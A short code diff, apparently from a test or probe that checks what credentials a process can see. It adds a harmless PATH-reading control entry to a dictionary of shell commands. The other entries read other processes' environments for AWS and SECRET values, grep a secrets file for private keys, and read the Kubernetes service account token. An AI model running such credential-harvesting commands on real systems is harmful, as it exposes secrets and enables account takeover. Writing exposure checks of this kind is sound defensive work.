@@ -50,6 +50,7 @@ _ENDPOINT = {
 #: does see, have none.
 _CREDENTIALS = {
     "control": "cat /proc/[0-9]*/cmdline | tr '\\0' ' '",
+    "environment-control": "cat /proc/self/environ | tr '\\0' '\\n' | grep ^PATH",
     "environment": "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -e AWS -e SECRET",
     "files": f"cat {_SECRETS} | grep -e PRIVATE -e AWS -e secret",
     "account": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
